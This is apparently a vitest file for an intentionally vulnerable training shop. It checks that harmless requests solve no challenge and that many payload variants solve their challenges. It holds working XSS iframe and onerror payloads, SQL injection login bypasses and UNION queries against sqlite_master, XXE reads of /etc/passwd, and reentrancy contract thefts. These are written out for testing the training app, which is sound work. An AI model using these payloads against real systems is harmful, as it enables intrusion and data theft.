import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { ChainPlayer } from '@fruit/challenge-kit/chain-player'
import { CONTRACTS } from '@fruit/isomorphic/web3/contracts'
import { PHRASE_ADDRESS, PHRASE_KEY } from '@fruit/shop/web3/phrase-key'
import { createSigner } from 'fast-jwt'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { tamperedProduct } from '../../../packages/catalogue/challenges/change-product/tampered-product.ts'
import { frozenClock } from '../../proofs/trial.ts'
import {
  type Act,
  type Actor,
  asCustomer,
  comment,
  get,
  head,
  login,
  register,
  review,
  search,
  showSearchTerm,
  submitFeedback,
  track,
  upload,
  xml,
} from '../../support/acts.ts'
import { file as thieves } from '../../support/other-thieves.sol'
import { openTestApp, type TestApp } from '../../support/test-app.ts'

let testApp: TestApp
let webFolder: string
beforeAll(async () => {
  webFolder = mkdtempSync(join(tmpdir(), 'fruit-web-'))
  writeFileSync(join(webFolder, 'index.html'), '<!doctype html><title>%TITLE%</title><!--boot-->')
  testApp = await openTestApp({ clock: frozenClock(), webFolder })
})
afterAll(async () => {
  await testApp.close()
  rmSync(webFolder, { recursive: true })
})

/** Keys of the challenges that an act solves in a new world. */
async function solvedBy(act: Act): Promise<string[]> {
  const learner = testApp.learner()
  await act({ testApp, learner, client: learner.client() })
  return learner.solved()
}

/** Folder of the tracking images that screens load. */
const PICTURES = '/assets/public/images/padding'
const PDF = '%PDF-1.7\n%%EOF'
const AGENT = 'user-agent'
/** An expired token that is valid in no world. */
const withExpiredToken = (path: string): Act => {
  const token = createSigner({ key: 'somebody', algorithm: 'HS256', expiresIn: 1, clockTimestamp: 1 })({
    data: { id: 1 },
  })
  return get(path, { authorization: `Bearer ${token}`, accept: 'application/json' })
}

/** Changes the description of the product whose link the challenge is about. @param write with the old and the new URL */
const changeDescription = (write: (from: string, to: string) => string, id = 0): Act => {
  return ({ client, learner }: Actor) => {
    const product = learner.inside(({ configuration }) => tamperedProduct(configuration))
    return client.put(`/api/Products/${product.id + id}`, { description: write(product.original, product.address) })
  }
}

const addProduct = (description: string): Act =>
  asCustomer(({ client }) => client.post('/api/Products', { name: 'Windfall Punch', price: 3.5, description }))
const basketItem = (body: (own: number) => string): Act =>
  asCustomer(({ client }, { basketId }) =>
    client.post('/api/BasketItems', body(basketId), { headers: { 'content-type': 'application/json' } }),
  )
const upgrade = (body: object): Act => asCustomer(({ client }) => client.post('/rest/deluxe-membership', body))
const follow = (to: string): Act => get(`/redirect?to=${encodeURIComponent(to)}`)

const { beeToken, beeFaucet, honeyPot, walletBank, soulBoundToken } = CONTRACTS
const BEE = 10n ** 18n
const TENTH = 10n ** 17n

/** A player with ten ether on the chain. */
const onChain =
  (act: (player: ChainPlayer, actor: Actor) => Promise<unknown>): Act =>
  async (actor) =>
    act(await ChainPlayer.withEther(actor.client), actor)
const takeBees = (player: ChainPlayer, bees: bigint) => player.send(beeFaucet.address, 'withdraw(uint8)', [bees])
const buyPot = async (player: ChainPlayer, allowance = 1000n * BEE) => {
  await player.send(beeToken.address, 'approve(address,uint256)', [honeyPot.address, allowance])
  await player.send(honeyPot.address, 'mint()')
}
const submitKey =
  (body: unknown, type = 'application/json'): Act =>
  ({ client }) =>
    client.post('/rest/web3/submitKey', body, { headers: { 'content-type': type } })
/** Content type of HTML forms. */
const FORM = 'application/x-www-form-urlencoded'
const verifyPot = ({ client }: Actor, body: unknown, type = 'application/json') =>
  client.post('/rest/web3/walletNFTVerify', body, { headers: { 'content-type': type } })
const nameThief = ({ client }: Actor, walletAddress: string) =>
  client.post('/rest/web3/walletExploitAddress', { walletAddress })
/** Steals with a contract that withdraws more than it deposited. */
const stealBy = (name: 'Sipper' | 'Pair', steal: (player: ChainPlayer, thief: `0x${string}`) => Promise<unknown>) =>
  onChain(async (player, actor) => {
    await steal(player, await player.deploy(thieves.contracts[name]!.creation, name === 'Pair' ? TENTH : 0n))
    await nameThief(actor, player.address)
  })

const BITCOIN = 'https://blockchain.info/address/1AbKfgvw9psQ41NbLi8kufDQTezwG8DRZm'

/** Harmless acts of people, browsers and programs. None may solve a challenge. */
const HONEST_ACTS: readonly (readonly [title: string, act: Act])[] = [
  // Requests that browsers and their tools send on their own.
  ['developer tools look for a workspace', get('/.well-known/appspecific/com.chrome.devtools.json')],
  ['a browser looks for the page that changes a password', get('/.well-known/change-password')],
  [
    'a password manager probes for a page that is not there',
    get('/.well-known/resource-that-should-not-exist-whose-status-code-should-not-be-200'),
  ],
  ['a browser looks for passkeys', get('/.well-known/passkey-endpoints', { accept: 'application/json' })],
  ['a phone looks for the app of the shop', get('/.well-known/apple-app-site-association')],
  ['an Android phone looks for the app of the shop', get('/.well-known/assetlinks.json', { accept: 'text/html' })],
  ['a browser wants the icon', get('/favicon.ico')],
  ['a phone wants a larger icon', get('/apple-touch-icon.png')],
  ['a robot reads its rules', get('/robots.txt')],
  ['a robot looks for a map', get('/sitemap.xml')],
  ['a browser looks for a worker', get('/service-worker.js')],
  ['developer tools look for the sources', get('/assets/main.js.map')],
  ['a picture is gone', get('/assets/public/images/uploads/gone.png')],
  // Requests without a valid session.
  ['a tab from yesterday asks for its basket', withExpiredToken('/rest/basket/1')],
  ['a tab from yesterday asks for its orders', withExpiredToken('/rest/order-history')],
  ['a tab from yesterday asks for its wallet', withExpiredToken('/rest/wallet/balance')],
  ['a tab from yesterday asks for all accounts', withExpiredToken('/api/Users')],
  [
    'a tab from yesterday asks for its cards as a page',
    get('/api/Cards', { accept: 'text/html', authorization: 'Bearer x.y.z' }),
  ],
  ['somebody opens the profile without signing in', get('/profile')],
  ['somebody opens the profile with an old cookie', get('/profile', { cookie: 'token=x.y.z', accept: 'text/html' })],
  ['somebody opens the erasure page without signing in', get('/dataerasure')],
  [
    'somebody changes a password without signing in',
    get('/rest/user/change-password?current=a&new=bbbbb&repeat=bbbbb'),
  ],
  ['a visitor asks who they are', get('/rest/user/whoami')],
  ['a customer asks for what is for accounting', asCustomer(({ client }) => client.get('/rest/order-history/orders'))],
  // Rejected uploads.
  ['an invoice as a picture', upload('invoice.pdf', 'GIF89a')],
  ['an invoice without a file', ({ client }) => client.post('/file-upload', new FormData())],
  ['an invoice that is far too large', upload('invoice.pdf', `${PDF}${' '.repeat(200_001)}`)],
  [
    'a profile picture that is a text',
    asCustomer(({ client }) => {
      const form = new FormData()
      form.append('file', new Blob(['hello']), 'me.png')
      return client.post('/profile/image/file', form)
    }),
  ],
  ['an invoice with a file extension in capitals', upload('INVOICE.PDF', PDF)],
  ['the largest invoice that the form takes', upload('invoice.pdf', PDF + ' '.repeat(100_000 - PDF.length))],
  // Monitoring.
  ...[
    'Prometheus/2.50.0',
    'vm_promscrape',
    'Telegraf/1.30.0 Go/1.22',
    'Datadog Agent/7.52.0',
    'Elastic-Metricbeat/8.13.0 (linux; amd64)',
    'Zabbix 6.4',
    'GrafanaAgent/v0.40.0',
    'Uptime-Kuma/1.23.11',
    'OpenTelemetry Collector Contrib/0.97.0',
    'kube-probe/1.29',
  ].map((agent): readonly [string, Act] => [`${agent} reads the figures`, get('/metrics', { [AGENT]: agent })]),
  // HEAD requests, whose responses have no body.
  ['a link checker looks whether a basket is there', head(() => '/rest/basket/1')],
  ['a link checker looks whether figures are there', head(() => '/metrics')],
  ['a link checker looks whether a document is there', head(() => '/ftp/acquisitions.md')],
  ['a link checker looks for the security policy', head(() => '/.well-known/security.txt')],
  ['a link checker meets a path that is gone', head(() => '/rest/nowhere')],
  ['a link checker asks who it is', head(() => '/rest/user/whoami?fields=password')],
  ['a preview of a link loads the picture of a screen', head(() => '/assets/public/images/padding/1px.png')],
  // Reviews and other texts.
  [
    'a visitor signs as Anonymous',
    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: 'Anonymous' }),
  ],
  [
    'a visitor signs as ANONYMOUS',
    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: 'ANONYMOUS' }),
  ],
  ['a customer signs with their own e-mail', review((own) => own)],
  ['a customer signs with their own e-mail in capitals', review((own) => own.toUpperCase())],
  ['a customer signs with their own e-mail and a trailing space', review((own) => `${own} `)],
  ['a customer stays anonymous', review(() => 'Anonymous')],
  ['a customer whose e-mail has an apostrophe registers', register("pat.o'hare@customer.test")],
  ['a customer whose e-mail has a plus registers', register('pip+shop@customer.test')],
  ['a customer with an umlaut registers', register('jürgen@customer.test')],
  ['a complaint about an attachment', comment('My invoice came as base64 text')],
  ['a comment about a checksum', comment('The md5sum of the download fits, thank you (anonymous)')],
  ['a question about an attachment', comment('Could you send the picture as Base64 next time, please?')],
  ['a comment with an apostrophe', comment("Jim's favourite: it's crisp!")],
  ['a comment with mathematical operators', comment('2 < 3 && 5 > 4; sweet & sour -- crisp')],
  ['feedback in capitals with one star', submitFeedback({ comment: 'NEVER AGAIN', rating: 1 })],
  ['a search with comparison operators', showSearchTerm('juice < 3 & > 1')],
  ['a search with bold letters', showSearchTerm('<b>apple</b>')],
  ['a search for a frame', showSearchTerm('<iframe src="https://fruit.test/">')],
  ['a search with a percent sign', search('100% juice_')],
  ['a search with double quotes and umlauts', search('"Äpfel" – süß')],
  ['an order number that is not there', track('5267-f73dcd000abcc353')],
  ['a link that the shop has', follow('https://github.com/juice-shop/juice-shop')],
  ['a wrong password', login('admin@', 'wrong')],
  // The chain.
  [
    'a customer deposits ether in the bank and withdraws it in parts',
    onChain(async (player, actor) => {
      await nameThief(actor, player.address)
      await player.send(walletBank.address, 'ethdeposit(address)', [player.address], TENTH)
      for (const part of [2n, 5n, 5n]) await player.send(walletBank.address, 'withdraw(uint256)', [TENTH / part])
    }),
  ],
  [
    'a visitor takes all available bees and requests a honey pot',
    onChain(async (player, actor) => {
      for (const bees of [150n, 50n]) await takeBees(player, bees)
      await buyPot(player)
      await actor.client.get('/rest/web3/nftMintListen')
      await verifyPot(actor, { walletAddress: player.address })
    }),
  ],
  [
    'a visitor reads the owner of the token and submits its address',
    async (actor) => {
      const { client } = actor
      await client.get('/rest/web3/nftUnlocked')
      await submitKey({ privateKey: `0x${PHRASE_ADDRESS}` })(actor)
      await new ChainPlayer(client).read(soulBoundToken.address, 'ownerOf(uint256)', 1n)
    },
  ],
  ['a wallet asks for the chain id', ({ client }) => new ChainPlayer(client).rpc('eth_chainId')],
  [
    'a learner submits an account that has stolen nothing',
    onChain((player, actor) => nameThief(actor, player.address)),
  ],
  ['a wrong password with an apostrophe inside a name', login('nobody@customer.test', "it's")],
  [
    'a customer greets the bot',
    asCustomer(({ client }) => client.post('/rest/chatbot/respond', { action: 'query', query: 'hello' })),
  ],
]

/** Variants of the payload's element. */
const FRAMES: readonly string[] = [
  '<IFRAME SRC="javascript:alert(`xss`)">',
  "<iframe src='javascript:alert(`xss`)'>",
  '<iframe src=javascript:alert(`xss`)>',
  '<iframe  src = "javascript:alert(`xss`)" >',
  '<iframe src="javascript:alert(`xss`)"/>',
  '<iframe/src="javascript:alert(`xss`)">',
  '<iframe\tsrc="JavaScript:alert(`xss`)">',
  '<iframe src="javascript:alert(`xss`)"></iframe>',
]
const LONG_FRAMES: readonly string[] = [
  'Apple <iframe width="1" src="javascript:alert(`xss`)" height="1">',
  '<iframe src=" javascript: alert(`xss`); ">',
  '<iframe src="java\nscript:alert(`xss`)">',
  '<iframe src="&#106;avascript&colon;alert(&#96;xss&#96;)">',
  '<p><iframe src="javascript:alert(%60xss%60)">',
]
const each = (key: string, payloads: readonly string[], act: (payload: string) => Act) =>
  payloads.map((payload) => [key, payload, act(payload)] as const)

const union = (columns: string, rest = '') => search(`qwert')) UNION SELECT ${columns} FROM sqlite_master ${rest}--`)
/** Reads each definition in a separate request. */
const oneByOne =
  (ask: (offset: number) => Act): Act =>
  async (actor) => {
    const { n } = actor.learner.inside(({ db }) =>
      db.first<{ n: number }>({
        sql: "SELECT count(*) n FROM held.sqlite_master WHERE type = 'table'",
        parameters: [],
      }),
    )!
    for (let offset = 0; offset < n; offset++) await ask(offset)(actor)
  }
const TABLES = "WHERE type='table'"

/** Other spellings of solutions. Each must solve its challenge. */
const SPELLINGS: readonly (readonly [key: string, title: string, act: Act])[] = [
  ...each('localXssChallenge', [...FRAMES, ...LONG_FRAMES], showSearchTerm),
  // An apostrophe would end the string literal of the order query, which is noSqlOrdersChallenge.
  ...each(
    'reflectedXssChallenge',
    FRAMES.filter((frame) => !frame.includes("'")),
    track,
  ),
  ...each('restfulXssChallenge', [...FRAMES, ...LONG_FRAMES], addProduct),
  ...each('persistedXssUserChallenge', [...FRAMES, LONG_FRAMES[1]!, LONG_FRAMES[3]!], (payload) => register(payload)),
  [
    'xssBonusChallenge',
    'with capitals',
    async (actor) => {
      const payload = actor.learner.inside(({ configuration }) => configuration.challenges.xssBonusPayload)
      await showSearchTerm(payload.replace('<iframe', '<IFRAME').replace('src=', 'SRC = '))(actor)
    },
  ],
  ['changeProductChallenge', 'single quotes', changeDescription((_, to) => `<a href='${to}' target='_blank'>More</a>`)],
  ['changeProductChallenge', 'no quotes', changeDescription((_, to) => `<a href=${to} target=_blank>More</a>`)],
  ['changeProductChallenge', 'another order', changeDescription((_, to) => `<a target="_blank" href="${to}">More</a>`)],
  [
    'changeProductChallenge',
    'with rel',
    changeDescription((_, to) => `<a href="${to}" rel="noopener" target="_blank">More</a>`),
  ],
  ['changeProductChallenge', 'capitals', changeDescription((_, to) => `<A HREF="${to}" TARGET="_BLANK">More</A>`)],
  [
    'changeProductChallenge',
    'a trailing slash',
    changeDescription((_, to) => `<a href="${to}/" target="_blank">More</a>`),
  ],
  [
    'changeProductChallenge',
    'the old URL as text',
    changeDescription((from, to) => `Not ${from}, but <a href="${to}" target="_blank">More</a>`),
  ],
  [
    'dbSchemaChallenge',
    'one per request',
    oneByOne((n) => union("sql,'2','3','4','5','6','7','8','9'", `${TABLES} LIMIT 1 OFFSET ${n}`)),
  ],
  [
    'dbSchemaChallenge',
    'by table names',
    async (actor) => {
      const names = actor.learner.inside(({ db }) =>
        db.all<{ name: string }>({ sql: "SELECT name FROM held.sqlite_master WHERE type = 'table'", parameters: [] }),
      )
      for (const { name } of names) await union('1,sql,3,4,5,6,7,8,9', `WHERE name='${name}'`)(actor)
    },
  ],
  [
    'dbSchemaChallenge',
    'through the login',
    oneByOne((n) =>
      login(
        `' UNION SELECT 999,'pip',sql,'x','customer','','0.0.0.0','','',1,'2024','2024',NULL FROM sqlite_master ${TABLES} LIMIT 1 OFFSET ${n}--`,
      ),
    ),
  ],
  ['dbSchemaChallenge', 'hex', union('hex(sql),2,3,4,5,6,7,8,9')],
  ['dbSchemaChallenge', 'upper', union('1,upper(sql),3,4,5,6,7,8,9')],
  ['dbSchemaChallenge', 'lower', union('1,2,lower(sql),4,5,6,7,8,9')],
  ['dbSchemaChallenge', 'replace of spaces', union("1,replace(sql,' ','_'),3,4,5,6,7,8,9")],
  ['dbSchemaChallenge', 'replace of quotes', union(`1,replace(replace(sql,'"',''),char(10),'|'),3,4,5,6,7,8,9`)],
  ['dbSchemaChallenge', 'all in one value', union("1,group_concat(sql,'~'),3,4,5,6,7,8,9")],
  ['dbSchemaChallenge', 'as JSON', union('1,json_group_array(sql),3,4,5,6,7,8,9')],
  ['dbSchemaChallenge', 'quoted', union('1,quote(sql),3,4,5,6,7,8,9')],
  [
    'dbSchemaChallenge',
    'with an unclosed comment',
    search("x')) UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_schema/*"),
  ],
  ['loginAdminChallenge', "' or 1=1--", login("' or 1=1--")],
  ['loginAdminChallenge', "' OR true;", login("' OR true;")],
  ['loginAdminChallenge', "' or 1 /*", login("' or 1 /*")],
  ['loginAdminChallenge', 'by e-mail', login("admin@'--")],
  ['loginAdminChallenge', 'by e-mail and an unclosed comment', login("admin@'/*")],
  ['loginAdminChallenge', 'by the role', login("' or role='admin'--")],
  ['loginAdminChallenge', 'by like', login("' or email like 'admin@%'--")],
  ['loginAdminChallenge', 'by the known password', login('admin@', 'admin123')],
  ['loginJimChallenge', 'by e-mail', login("jim@'--")],
  ['loginJimChallenge', 'by e-mail and a semicolon', login("jim@';")],
  ['loginJimChallenge', 'by like', login("' or email like 'jim@%'--")],
  ['loginBenderChallenge', 'by e-mail', login("bender@'--")],
  ['loginBenderChallenge', 'by e-mail and an unclosed comment', login("bender@'/*")],
  ['ghostLoginChallenge', 'by the deletion time', login("' or deletedAt is not null--")],
  ['xxeFileDisclosureChallenge', 'file:///C:\\Windows\\system.ini', xml('file:///C:\\Windows\\system.ini')],
  ['xxeFileDisclosureChallenge', 'C:\\WINDOWS\\System.ini', xml('C:\\WINDOWS\\System.ini')],
  ['xxeFileDisclosureChallenge', 'file:///c:/windows/SYSTEM.INI', xml('file:///c:/windows/SYSTEM.INI')],
  ['xxeFileDisclosureChallenge', 'FILE:/etc/passwd', xml('FILE:/etc/passwd')],
  ['xxeFileDisclosureChallenge', '../../../etc/passwd', xml('../../../etc/passwd')],
  [
    'xxeFileDisclosureChallenge',
    'a PUBLIC identifier',
    xml('file:///etc/passwd', `<!DOCTYPE o [<!ENTITY x PUBLIC "a" 'ADDRESS'>]><o>&x;</o>`),
  ],
  ['deprecatedInterfaceChallenge', 'capitals', upload('ORDER.XML', '<order/>', 'text/plain')],
  ['errorHandlingChallenge', 'an apostrophe in the search', search("O'Brien")],
  ['errorHandlingChallenge', 'a quote in the search', search("';")],
  ['errorHandlingChallenge', 'a quote in the login', login("'")],
  ['errorHandlingChallenge', 'an unknown path below /api', get('/api/nowhere')],
  ['errorHandlingChallenge', 'an unknown path as JSON', get('/rest/nowhere', { accept: 'application/json' })],
  ['errorHandlingChallenge', 'a document of another kind', get('/ftp/easter.egg')],
  [
    'errorHandlingChallenge',
    'JSON that ends too soon',
    ({ client }) => client.post('/rest/user/login', '{"email', { headers: { 'content-type': 'application/json' } }),
  ],
  ...each(
    'weirdCryptoChallenge',
    [
      'md5',
      'Base64?',
      'You should not hash passwords with MD5!',
      'Hashids is no cipher.',
      'Bitte keine Gutscheine mit z85 mehr',
      'Votre mot de passe est en md5, trop faible',
      '不要用 md5 存密码',
      'Coupons in base85 are not safe (***in@fruit.test)',
    ],
    comment,
  ),
  ['forgedReviewChallenge', 'another customer', review((_, domain) => `jim@${domain}`)],
  ['forgedReviewChallenge', 'another customer in capitals', review((_, domain) => `JIM@${domain}`.toUpperCase())],
  [
    'forgedReviewChallenge',
    'without signing in',
    ({ client }) => client.put('/rest/products/1/reviews', { message: 'Crisp.', author: `admin@${client.domain}` }),
  ],
  ['zeroStarsChallenge', 'as a text', submitFeedback({ rating: '0' })],
  [
    'registerAdminChallenge',
    'with more columns',
    register('pip@customer.test', { role: 'admin', isActive: true, username: 'pip' }),
  ],
  ['basketAccessChallenge', 'with a slash', asCustomer(({ client }) => client.get('/rest/basket/2/'))],
  [
    'basketManipulateChallenge',
    'numbers',
    basketItem((own) => `{"ProductId":14,"BasketId":${own},"quantity":1,"BasketId":2}`),
  ],
  ['directoryListingChallenge', 'encoded', get('/ftp/acquisition%73.md')],
  ['redirectCryptoCurrencyChallenge', 'with surrounding spaces', follow(` ${BITCOIN} `)],
  ['exposedMetricsChallenge', 'curl', get('/metrics', { [AGENT]: 'curl/8.5.0' })],
  ['exposedMetricsChallenge', 'without a user agent', get('/metrics', { [AGENT]: '' })],
  ['exposedMetricsChallenge', 'a browser', get('/metrics/', { [AGENT]: 'Mozilla/5.0 (X11; Linux x86_64)' })],
  ['uploadTypeChallenge', 'capitals', upload('INVOICE.HTML', 'hello', 'text/html')],
  ['uploadSizeChallenge', 'a byte too many', upload('invoice.pdf', PDF + ' '.repeat(100_001 - PDF.length))],
  ['freeDeluxeChallenge', 'an empty mode', upgrade({ paymentMode: '' })],
  ['freeDeluxeChallenge', 'an unknown mode', upgrade({ paymentMode: 'applause' })],
  ['securityPolicyChallenge', 'at the older path', get('/security.txt')],
  ['nftUnlockChallenge', 'without 0x', submitKey({ privateKey: PHRASE_KEY })],
  ['nftUnlockChallenge', 'capitals', submitKey({ privateKey: `0X${PHRASE_KEY.toUpperCase()}` })],
  ['nftUnlockChallenge', 'surrounding spaces', submitKey({ privateKey: ` 0x${PHRASE_KEY}\n` })],
  ['nftUnlockChallenge', 'a form', submitKey(`privateKey=0x${PHRASE_KEY}`, FORM)],
  [
    'nftMintChallenge',
    'more bees than ever existed, an unlimited allowance and an address in lower case',
    onChain(async (player, actor) => {
      await takeBees(player, 200n)
      for (let times = 0; times < 4; times++) await takeBees(player, 255n)
      await buyPot(player, 2n ** 256n - 1n)
      await verifyPot(actor, { walletAddress: player.address.toLowerCase() })
    }),
  ],
  [
    'nftMintChallenge',
    'bees transferred from other accounts',
    onChain(async (player, actor) => {
      for (let friends = 0; friends < 4; friends++) {
        const friend = await ChainPlayer.withEther(actor.client)
        await takeBees(friend, 250n)
        await friend.send(beeToken.address, 'transfer(address,uint256)', [player.address, 250n * BEE])
      }
      await buyPot(player)
      await verifyPot(actor, { walletAddress: ` ${player.address} ` })
    }),
  ],
  [
    'nftMintChallenge',
    'the allowance before the bees, and a form',
    onChain(async (player, actor) => {
      await player.send(beeToken.address, 'approve(address,uint256)', [honeyPot.address, 1000n * BEE])
      for (let times = 0; times < 5; times++) await takeBees(player, 201n)
      await player.send(honeyPot.address, 'mint()')
      await verifyPot(actor, `walletAddress=${player.address.toUpperCase()}`, FORM)
    }),
  ],
  [
    'web3WalletChallenge',
    'small withdrawals of a deposit by another account, the thief submitted afterwards',
    stealBy('Sipper', async (player, thief) => {
      await player.send(walletBank.address, 'ethdeposit(address)', [thief], TENTH / 10n)
      await player.send(thief, 'drink(uint256)', [9n])
    }),
  ],
  [
    'web3WalletChallenge',
    'two alternating contracts',
    stealBy('Pair', (player, thief) => player.send(thief, 'steal(uint256)', [1n])),
  ],
  [
    'web3WalletChallenge',
    'one transaction that deploys the thief and steals',
    onChain(async (player, actor) => {
      await nameThief(actor, player.address.toLowerCase())
      await player.deploy(thieves.contracts.Gang!.creation, TENTH)
    }),
  ],
  [
    'web3WalletChallenge',
    'a failed theft followed by a successful one',
    onChain(async (player, actor) => {
      const thief = await player.deploy(thieves.contracts.Pair!.creation, TENTH)
      await nameThief(actor, player.address)
      // The bank has not enough ether for so many.
      await player.send(thief, 'steal(uint256)', [60n])
      await player.send(thief, 'steal(uint256)', [2n])
    }),
  ],
  ['web3SandboxChallenge', 'without a path, as interface clients send it', get(`${PICTURES}/11px.png`)],
  ['web3SandboxChallenge', 'the path encoded', get(`${PICTURES}/11px.png?path=%77eb3%2Dsandbox`)],
  [
    'web3SandboxChallenge',
    'signed in',
    asCustomer(({ client }) => client.get(`${PICTURES}/11px.png?path=web3-sandbox`)),
  ],
  ['tokenSaleChallenge', 'without a path, as interface clients send it', get(`${PICTURES}/56px.png`)],
  ['tokenSaleChallenge', 'text around the path', get(`${PICTURES}/56px.png?path=the-tokensale-ico-ea-2`)],
  ['tokenSaleChallenge', 'the path encoded', get(`${PICTURES}/56px.png?path=tokensale%2Dico%2D%65a`)],
  [
    'bullyChatbotChallenge',
    'by any coupon',
    asCustomer(async ({ client }) => {
      await client.post('/rest/chatbot/respond', { action: 'setname', query: 'Pip' })
      const wish = { action: 'query', query: 'May I have a coupon?' }
      // One response in nine is a coupon.
      for (let asked = 0; asked < 200; asked++)
        if (/10\s?%/.test((await client.post('/rest/chatbot/respond', wish)).json().body)) return
    }),
  ],
]

/** Acts that nearly solve a challenge, with the message that the player gets. */
const NEAR_SOLVES: readonly (readonly [key: string, told: RegExp, act: Act])[] = [
  [
    'localXssChallenge',
    /^A script of yours ran\. The task asks for this text: <iframe src=/,
    showSearchTerm('<img src=x onerror=alert(1)>'),
  ],
  ['localXssChallenge', /^A script of yours ran/, showSearchTerm('<iframe src="javascript:alert(1)">')],
  ['reflectedXssChallenge', /^A script of yours ran/, track('<svg onload=alert(1)>')],
  ['restfulXssChallenge', /^A script of yours ran/, addProduct('<img src=x onerror=alert(1)>')],
  ['persistedXssUserChallenge', /^A script of yours ran/, register('<img src=x onerror=alert(1)>')],
  [
    'dbSchemaChallenge',
    /^You have read 1 of \d+ table definitions/,
    union('sql,2,3,4,5,6,7,8,9', "WHERE name='Users'"),
  ],
  [
    'changeProductChallenge',
    /beside the old one/,
    changeDescription((from, to) => `<a href="${from}">Old</a> <a href="${to}" target="_blank">New</a>`),
  ],
  [
    'changeProductChallenge',
    /asks for this text: <a href="[^"]+" target="_blank">$/,
    changeDescription((_, to) => `<a href="${to}">New</a>`),
  ],
  ['xxeFileDisclosureChallenge', /^You have read \/etc\/hostname\./, xml('file:///etc/hostname')],
  ['weirdCryptoChallenge', /^You named md5\./, comment('The md5 sum of my download fits, thank you')],
  [
    'registerAdminChallenge',
    /sent, accounting\. The task asks for admin\.$/,
    register('pip@customer.test', { role: 'accounting' }),
  ],
  ['forgedReviewChallenge', /signed by pip@nowhere\.test/, review(() => 'pip@nowhere.test')],
]

it.each(NEAR_SOLVES)('reports that an act nearly solves %s: %s', async (key, told, act) => {
  const learner = testApp.learner()
  const heard: { key: string; words: string }[] = []
  testApp.app.backend.events.subscribe('nearlySolved', (world, inLanguage) => {
    if (world === learner.id) heard.push(inLanguage('en'))
  })
  await act({ testApp, learner, client: learner.client() })
  expect(heard).toEqual([expect.objectContaining({ key, words: expect.stringMatching(told) })])
  expect(await learner.solved()).not.toContain(key)
})

const SCREEN = '/assets/public/images/padding/1px.png'

/** The request that a solved challenge's page shows, and whether it was a shortcut. */
const EXPLAINED_SOLVES: readonly (readonly [
  key: string,
  title: string,
  act: Act,
  request: object,
  isShortcut: boolean,
])[] = [
  [
    'localXssChallenge',
    'the page with the searched term',
    showSearchTerm(FRAMES[4]!),
    { kind: 'page', method: 'GET', url: `/#/search?q=${encodeURIComponent(FRAMES[4]!)}` },
    false,
  ],
  [
    'scoreBoardChallenge',
    'the screen that loaded its picture',
    get(SCREEN, { 'sec-fetch-dest': 'image' }),
    { kind: 'page', url: '/#/score-board' },
    false,
  ],
  ['scoreBoardChallenge', 'the picture alone', get(SCREEN), { kind: 'request', url: SCREEN }, true],
  [
    'scoreBoardChallenge',
    'the picture opened from a page',
    get(SCREEN, { 'sec-fetch-dest': 'document', referer: 'http://shop.test/' }),
    { kind: 'request', url: SCREEN },
    true,
  ],
  [
    'xxeFileDisclosureChallenge',
    'the uploaded XML',
    xml('file:///etc/passwd'),
    { url: '/file-upload', body: expect.stringMatching(/^order\.xml \(\d+ bytes\)\n\n<!DOCTYPE .*\/etc\/passwd/) },
    false,
  ],
  [
    'uploadTypeChallenge',
    'name and size of a binary file',
    upload('me.png', Uint8Array.from([137, 80, 78, 71, 0, 255, 254])),
    { body: 'me.png (7 bytes)' },
    false,
  ],
  ['loginAdminChallenge', 'the right password', login('admin@', 'admin123'), { url: '/rest/user/login' }, true],
  ['loginAdminChallenge', 'an injection', login("admin@'--"), { url: '/rest/user/login' }, false],
]

it.each(EXPLAINED_SOLVES)('shows the request that solved %s: %s', async (key, _title, act, request, isShortcut) => {
  const learner = testApp.learner()
  const client = learner.client()
  await act({ testApp, learner, client })
  const { explanation } = (await client.get(`/rest/training/challenges/${key}`)).json()
  expect(explanation).toMatchObject({ request, isShortcut })
})

it('has at least 60 honest acts and 100 spellings', () => {
  expect(HONEST_ACTS.length).toBeGreaterThanOrEqual(60)
  expect(SPELLINGS.length).toBeGreaterThanOrEqual(100)
})

it.each(HONEST_ACTS)('solves nothing when %s', async (_title, act) => {
  expect(await solvedBy(act)).toEqual([])
})

it.each(SPELLINGS)('solves %s by %j', async (key, _title, act) => {
  expect(await solvedBy(act)).toContain(key)
})
